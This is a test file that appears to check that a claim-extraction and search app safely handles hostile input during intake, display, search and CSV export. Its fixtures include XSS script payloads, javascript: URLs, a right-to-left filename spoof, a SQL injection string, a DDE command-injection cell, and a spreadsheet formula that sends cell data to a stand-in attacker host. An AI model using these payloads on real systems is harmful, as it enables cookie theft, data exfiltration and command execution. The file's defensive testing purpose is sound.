import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type {
  DocumentsPage,
  DocumentView,
  IntakeRun,
  LogPage,
  ReadingPage,
  SearchPage,
} from '../../src/server/contract.ts'
import { checkRecord } from '../support/checked.ts'
import { formOf, type OpenedDesk, openDesk } from '../support/opened-desk.ts'
import { rawRequest } from '../support/raw-request.ts'

/** Turns what stands after it around: "\u202Etxt.exe" is shown as "exe.txt". */
const OVERRIDE = '\u202E'
const MARKUP = '<img src=x onerror=alert(1)><script>alert(document.cookie)</script>'
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
const LOAN = 'Norway lent Peru 40 million euros on Friday.'
const DOCUMENTS = [
  { text: `${LOAN} ${MARKUP}`, title: MARKUP, publisher: `"><script>alert(2)</script>`, url: 'javascript:alert(3)' },
  {
    text: `${LOAN} ${OVERRIDE}Kenya thanked Ghana.`,
    title: `${OVERRIDE}txt.exe`,
    url: 'data:text/html,<script>1</script>',
  },
  { text: `${LOAN} Malta praised Oman.`, title: FORMULA, publisher: '@SUM(1+1)*cmd|/c calc' },
  { text: `${LOAN} ${'a'.repeat(1_048_576)}`, title: 'A line of a megabyte', date: '2024-03-01' },
  { text: `${LOAN} \u0000\uFFFE\u{1F600} ${'\u0301'.repeat(2000)}`, title: 'Odd characters' },
]

let desk: OpenedDesk
let run: IntakeRun
beforeAll(async () => {
  desk = await openDesk()
  const lines = DOCUMENTS.map((each) => `${JSON.stringify(each)}\n`).join('')
  const name = `${OVERRIDE}<b>x.jsonl`
  run = await desk.over((await desk.ask<IntakeRun>('/api/intake', formOf({ [name]: lines, 'a.svg': MARKUP }))).body.run)
}, 120_000)
afterAll(() => desk.clear())

const documents = async () => (await desk.ask<DocumentsPage>('/api/documents')).body.items

test('all of them are kept, and the record stands its check', async () => {
  expect(run.documents).toMatchObject({ added: 5, bad: 1 })
  expect(checkRecord(desk.record)).toEqual([])
})

test('every answer is JSON, never taken for a page, with texts as they are', async () => {
  const titles = (await documents()).map(({ title }) => title)
  expect(titles.toSorted()).toEqual(DOCUMENTS.map(({ title }) => title).toSorted())
  for (const { id } of await documents()) {
    for (const path of [`/api/documents/${id}`, `/api/documents/${id}/reading`, `/api/claims?document=${id}`]) {
      const { headers, status } = await rawRequest(desk.origin, { path })
      expect([status, headers['content-type']]).toEqual([200, 'application/json'])
      expect(headers['x-content-type-options']).toBe('nosniff')
    }
    const { text, title } = (await desk.ask<DocumentView>(`/api/documents/${id}`)).body
    const given = DOCUMENTS.find((each) => each.title === title)!.text
    // What no database can hold is replaced one for one, so that offsets stay.
    expect(text.trim()).toBe(given.replaceAll('\0', '\uFFFD').trim())
  }
})

test('what leads elsewhere than to the web is no address', async () => {
  expect((await documents()).map(({ url }) => url)).toEqual(DOCUMENTS.map(() => null))
  const given = { text: LOAN, url: 'javascript:alert(1)' }
  expect((await desk.post<ReadingPage>('/api/readings', given)).body.document.url).toBeNull()
  expect((await desk.post('/api/readings', { url: 'javascript:alert(1)' })).status).toBe(400)
})

test('a claim is found in each, with its words where they stand', async () => {
  for (const { id, title } of await documents()) {
    const { text, claims } = (await desk.ask<ReadingPage>(`/api/documents/${id}/reading`)).body
    const loan = claims.find(({ event }) => event.type === 'AID')
    expect([title, loan?.actors[0]?.id, loan?.recipients[0]?.id]).toEqual([title, 'NOR', 'PER'])
    for (const { evidence } of claims) expect(text.slice(evidence.start, evidence.end)).toBe(evidence.exact)
  }
})

test('names of files lose what turns text around, and messages tell them as they are shown', async () => {
  expect(run.command).toBe('add <b>x.jsonl a.svg')
  const { items } = (await desk.ask<LogPage>(`/api/intake/log?run=${run.run}`)).body
  for (const { input } of items) expect(input).not.toContain(OVERRIDE)
})

test('what is searched for is words, whatever it holds', async () => {
  for (const q of ['"', '* OR', 'NEAR(', "'; DROP TABLE claims; --", MARKUP, OVERRIDE, FORMULA, 'a'.repeat(5000)]) {
    const { status } = await desk.ask<SearchPage>(`/api/search?q=${encodeURIComponent(q)}`)
    expect([q.slice(0, 30), status < 500]).toEqual([q.slice(0, 30), true])
  }
  expect((await documents()).length).toBe(5)
})

test('cells of a table that spreadsheets would run are text in it', async () => {
  const { text, headers } = await rawRequest(desk.origin, { path: '/api/export?format=csv' })
  expect(headers['content-disposition']).toMatch(/^attachment; filename="claims-\d{4}-\d\d-\d\d\.csv"$/)
  expect(headers['x-content-type-options']).toBe('nosniff')
  const cells: string[] = parse(text).flat()
  expect(cells).toContain(`'${FORMULA}`)
  expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([])
})

test('nothing was complained of', () => {
  expect(desk.complaints).toEqual([])
})
